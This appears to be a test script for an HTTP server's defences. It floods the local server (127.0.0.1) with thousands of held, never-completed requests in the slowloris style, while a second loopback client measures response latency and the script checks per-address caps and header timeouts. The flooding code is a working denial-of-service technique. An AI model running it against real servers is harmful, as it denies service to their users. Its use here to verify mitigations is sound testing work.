#!/usr/bin/env python3
"""The attack of issue item 5, and the other client's view of it.

Opens N connections from one address, each sending an unfinished request (request line and one header,
never the blank line), and holds them. Meanwhile another client, from another loopback address, asks
for /api/tags every 200 ms on a new connection and records how long each answer takes. Reports how many
of the N the server closed at once (over the per-address cap), how many it held, when it closed those
(header deadline), and the other client's latencies.
Usage: unfinished-connections.py PORT [N] [OTHER_ADDRESS|none]   (ulimit -n must exceed N; several
processes may share the N, with one of them as the other client)
"""
import asyncio
import sys
import time

PORT = int(sys.argv[1])
N = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
OTHER = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.2"
UNFINISHED = b"GET /api/tags HTTP/1.1\r\nHost: localhost\r\n"


async def attacker(index, start, closed_at):
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", PORT)
    except OSError:
        closed_at.append(("refused", time.monotonic() - start))
        return
    opened = time.monotonic()
    try:
        writer.write(UNFINISHED)
        await writer.drain()
        await reader.read()  # returns b"" when the server closes
    except OSError:
        pass
    closed_at.append(("closed", time.monotonic() - opened))
    writer.close()


async def other_client(latencies, stop):
    while not stop.is_set():
        begin = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", PORT, local_addr=(OTHER, 0)), 5)
            writer.write(b"GET /api/tags HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            response = await asyncio.wait_for(reader.read(), 5)
            status = response.split(b" ", 2)[1].decode() if response else "none"
            writer.close()
        except (OSError, asyncio.TimeoutError):
            status = "timeout"
        latencies.append((time.monotonic() - begin) * 1000, ) if status == "200" else latencies.append(status)
        await asyncio.sleep(0.2)


async def main():
    start = time.monotonic()
    closed_at, latencies, stop = [], [], asyncio.Event()
    probe = asyncio.create_task(other_client(latencies, stop) if OTHER != "none" else stop.wait())
    attackers = []
    for i in range(N):
        attackers.append(asyncio.create_task(attacker(i, start, closed_at)))
        if i % 500 == 499:
            await asyncio.sleep(0)
    opened_in = time.monotonic() - start
    await asyncio.wait_for(asyncio.gather(*attackers), 60)
    stop.set()
    await probe
    at_once = sorted(t for kind, t in closed_at if kind == "closed" and t < 1)
    held = sorted(t for kind, t in closed_at if kind == "closed" and t >= 1)
    refused = sum(1 for kind, _ in closed_at if kind == "refused")
    served = sorted(x for x in latencies if isinstance(x, float)) or [float("nan")]
    print(f"{N} unfinished connections from 127.0.0.1 started in {opened_in:.1f} s")
    print(f"closed within 1 s of opening (over the per-address cap): {len(at_once)}; refused by the OS: {refused}")
    if held:
        print(f"held, then closed: {len(held)}, after {held[0]:.1f} to {held[-1]:.1f} s")
    print(f"the other client ({OTHER}): {len(served)} answers 200, "
          f"latency min {served[0]:.1f} / median {served[len(served) // 2]:.1f} / max {served[-1]:.1f} ms; "
          f"failures: {[x for x in latencies if not isinstance(x, float)]}")
    print(f"everything ended {time.monotonic() - start:.1f} s after the start")


asyncio.run(main())
